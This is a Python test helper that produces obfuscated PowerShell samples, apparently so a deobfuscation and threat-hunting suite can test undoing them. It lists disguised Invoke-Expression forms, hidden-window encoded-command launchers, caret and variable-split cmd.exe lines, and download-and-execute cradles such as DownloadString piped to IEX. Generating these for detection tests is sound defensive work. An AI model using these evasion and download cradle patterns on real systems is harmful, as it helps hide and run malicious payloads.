"""Obfuscates scripts, one technique after the other, so that the tests can undo them.

`obfuscate(script, techniques, rng)`; the techniques are those of Invoke-Obfuscation and of what
is seen in the wild. The scripts are made of documentation addresses and are never run.
"""

import base64
import re
from collections.abc import Callable
from random import Random

from tests.hunting.deobfuscate import number_encoders, packed_encoders, text_encoders
from tests.hunting.deobfuscate.words import Encoded, Encoder, cased, name, quoted

Technique = Callable[[str, Random], str]
ENCODERS: dict[str, Encoder] = {
    **text_encoders.ENCODERS,
    **number_encoders.ENCODERS,
    **packed_encoders.ENCODERS,
}
_STRING = re.compile(r"@'\n.*?\n'@|'(?:[^']|'')*'|\"(?:[^\"`]|`.|\"\")*\"", re.DOTALL)
_WORD = re.compile(r"(?<![\w$.:`{\[-])[A-Za-z]{3,}(?:-[A-Za-z]+)?(?![\w.:=\]-])")
_KEYWORDS = frozenset(["for", "foreach", "while", "if", "function", "return", "break", "else"])

IEX_NAMES = (
    "iex",
    "Invoke-Expression",
    "&('i'+'ex')",
    ".('ie'+'x')",
    '&("{1}{0}"-f"x","ie")',
    "& ($ShellId[1]+$ShellId[13]+'x')",
    ".( $PSHome[4]+$PSHome[30]+'x')",
    "&( $pshome[21]+$PSHOME[34]+'X')",
    ".( $env:ComSpec[4,24,25]-Join'')",
    "&($eNv:cOmSpEc[4,15,25]-jOIn'')",
    "& ( $env:Public[13]+$env:Public[5]+'x')",
    "&((Get-Variable '*mdr*').Name[3,11,2]-Join'')",
    ". ((gv '*MDR*').naMe[3,11,2]-joIN'')",
    ".( $VerbosePreference.ToString()[1,3]+'x'-Join'')",
    "& ( ([String]$VerbosePreference)[1,3]+'X'-joIn'')",
    "&( ([String]''.IndexOf)[0,7,8]-Join'')",
    ".( ([String]''.Chars)[15,18,19]-Join'')",
    "& (gcm i*x)",
    "&(Get-Command *ke-*pr*n)",
    ".(gal i?x)",
    "&((Get-Alias ie*).Name)",
    "&(dir alias:/iex)",
)


def invoke(encoded: Encoded, rng: Random) -> str:
    """A script that runs what the expression says."""
    before, value = encoded
    iex = rng.choice(IEX_NAMES)
    if "'" not in iex or rng.random() < 0.3:
        iex = cased(iex, rng)
    held = f"${name(rng)}h"
    return before + rng.choice(
        (
            f"{iex} ({value})",
            f"{iex}({value})",
            f"{value}|{iex}",
            f"({value}) | {iex}",
            f"{held}={value};{iex} {held}",
            f"{held} = ({value}); {held}|{iex}",
            f"[scriptblock]::Create({value}).{cased('Invoke', rng)}()",
            f"&([scriptblock]::{cased('Create', rng)}({value}))",
            f".([ScriptBlock]::('Cr'+'eate').Invoke({value}))",
            f"$ExecutionContext.InvokeCommand.{cased('InvokeScript', rng)}({value})",
            f"&($ExecutionContext.InvokeCommand.NewScriptBlock({value}))",
            f"Invoke-Command -ScriptBlock ([scriptblock]::Create({value}))",
            f"icm ([scriptblock]::Create({value}))",
            f"Set-Alias {name(rng)}x iex;&('iex') ({value})",
        )
    )


def wrapping(encode: Callable[[str, Random], Encoded]) -> Technique:
    """The whole script is encoded and run by Invoke-Expression."""
    return lambda script, rng: invoke(encode(script, rng), rng)


def inline(encode: Callable[[str, Random], Encoded]) -> Technique:
    """The string literals in the script are encoded where they stand."""

    def technique(script: str, rng: Random) -> str:
        statements = []

        def encoded(match: re.Match[str]) -> str:
            text = match.group()[1:-1].replace("''", "'")
            if match.group()[0] != "'" or len(text) < 2:
                return match.group()
            before, value = encode(text, rng)
            statements.append(before)
            return f"({value})"

        obfuscated = _STRING.sub(encoded, script)
        return "".join(statements) + obfuscated

    return technique


def _outside_strings(script: str, change: Callable[[str], str]) -> str:
    pieces, end = [], 0
    for match in _STRING.finditer(script):
        pieces += [change(script[end : match.start()]), match.group()]
        end = match.end()
    return "".join([*pieces, change(script[end:])])


def random_case(script: str, rng: Random) -> str:
    """Command, member and type names in random case; strings and base64 stay as they are."""
    if "-e" in script.lower() and "powershell" in script.lower():
        return script
    return _outside_strings(script, lambda code: cased(code, rng))


def backticks(script: str, rng: Random) -> str:
    """Backticks inside the command names."""

    def ticked(match: re.Match[str]) -> str:
        word = match.group()
        place = rng.randint(1, len(word) - 1)
        if word.lower() in _KEYWORDS or word[place - 1] == "-" or word[place] in "-0abfnrtv":
            return word
        return f"{word[:place]}`{word[place:]}"

    return _outside_strings(script, lambda code: _WORD.sub(ticked, code))


def encoded_command(script: str, rng: Random) -> str:
    """A nested `powershell -enc`."""
    blob = base64.b64encode(script.encode("utf-16-le")).decode()
    shell = cased(rng.choice(("powershell", "powershell.exe", "pwsh")), rng)
    flag = rng.choice(("-e", "-enc", "-EncodedCommand", "/ec", "-eNCo"))
    options = rng.choice(("", "-nop -w hidden ", "-NonI -ep bypass ", "-WindowStyle 1 "))
    start = rng.choice(
        ("", "& ", "cmd /c ", "cmd.exe /q /c ", "C:\\Windows\\System32\\WPS\\v1.0\\")
    )
    return f"{start}{shell} {options}{flag} {blob}"


def started_process(script: str, rng: Random) -> str:
    blob = base64.b64encode(script.encode("utf-16-le")).decode()
    return rng.choice(
        (
            f"Start-Process powershell -ArgumentList '-nop -enc {blob}'",
            f"saps powershell.exe '-w hidden -e {blob}' -WindowStyle Hidden",
            f"[Diagnostics.Process]::Start('powershell','-enc {blob}')",
            f"$p=New-Object Diagnostics.ProcessStartInfo;$p.Arguments='-nop -enc {blob}';$p.Start()",
        )
    )


def nested_command(script: str, rng: Random) -> str:
    """`powershell -Command` with the script as a single-quoted string."""
    shell = rng.choice(("powershell", "powershell.exe -nop -w 1", "pwsh -NoProfile"))
    return f"{shell} {rng.choice(('-c', '-Command', '/c', '-com'))} {quoted(script)}"


def standard_input(script: str, rng: Random) -> str:
    return f"{quoted(script)} | powershell.exe -nop -"


def script_block_text(script: str, rng: Random) -> str:
    return rng.choice((f"& {{{script}}}", f".{{{script}}}", f"Invoke-Command {{{script}}}"))


def carets(script: str, rng: Random) -> str:
    """A cmd.exe command line with carets around a nested, encoded command."""
    blob = base64.b64encode(script.encode("utf-16-le")).decode()
    line = f"powershell -e {blob}"
    return "cmd /c " + "".join(rng.choice(("", "", "^")) + char for char in line)


def cmd_variables(script: str, rng: Random) -> str:
    """cmd.exe variables hold the pieces of the command."""
    blob = base64.b64encode(script.encode("utf-16-le")).decode()
    first, second = name(rng) + "a", name(rng) + "b"
    shell = rng.choice(("po^wersh%COMSPEC:~-7,1%ll", "powershell", "pow%comspec:~-1%rshell"))
    shell = shell.replace("%COMSPEC:~-7,1%", "e").replace("%comspec:~-1%", "%COMSPEC:~-1%")
    return f'cmd /c "set {first}={shell}&&set {second}=-e {blob}&&call %{first}% %{second}%"'


_NEEDS_STATEMENTS = {"here_string"}  # cannot stand inside another expression
WRAPPING: dict[str, Technique] = {
    f"all_{label}": wrapping(encode) for label, encode in ENCODERS.items()
}
INLINE: dict[str, Technique] = {
    f"literal_{label}": inline(encode)
    for label, encode in ENCODERS.items()
    if label not in _NEEDS_STATEMENTS
}
OTHERS: dict[str, Technique] = {
    function.__name__: function
    for function in (
        random_case,
        backticks,
        encoded_command,
        started_process,
        nested_command,
        standard_input,
        script_block_text,
        carets,
        cmd_variables,
    )
}
TECHNIQUES: dict[str, Technique] = {**INLINE, **WRAPPING, **OTHERS}


def cradle(url: str, rng: Random) -> str:
    """A plain download command."""
    return rng.choice(
        (
            f"(New-Object Net.WebClient).DownloadString('{url}')|IEX",
            f"IEX (New-Object System.Net.WebClient).DownloadString('{url}')",
            f"Invoke-WebRequest -Uri '{url}' -OutFile 'x.exe';Start-Process 'x.exe'",
            f"$c=New-Object Net.WebClient;$c.DownloadFile('{url}','a.exe')",
            f"iex (iwr '{url}' -UseBasicParsing).Content",
            f"Start-BitsTransfer '{url}' 'b.dll'",
        )
    )


def obfuscate(script: str, techniques: list[str], rng: Random) -> str:
    for technique in techniques:
        script = TECHNIQUES[technique](script, rng)
    return script
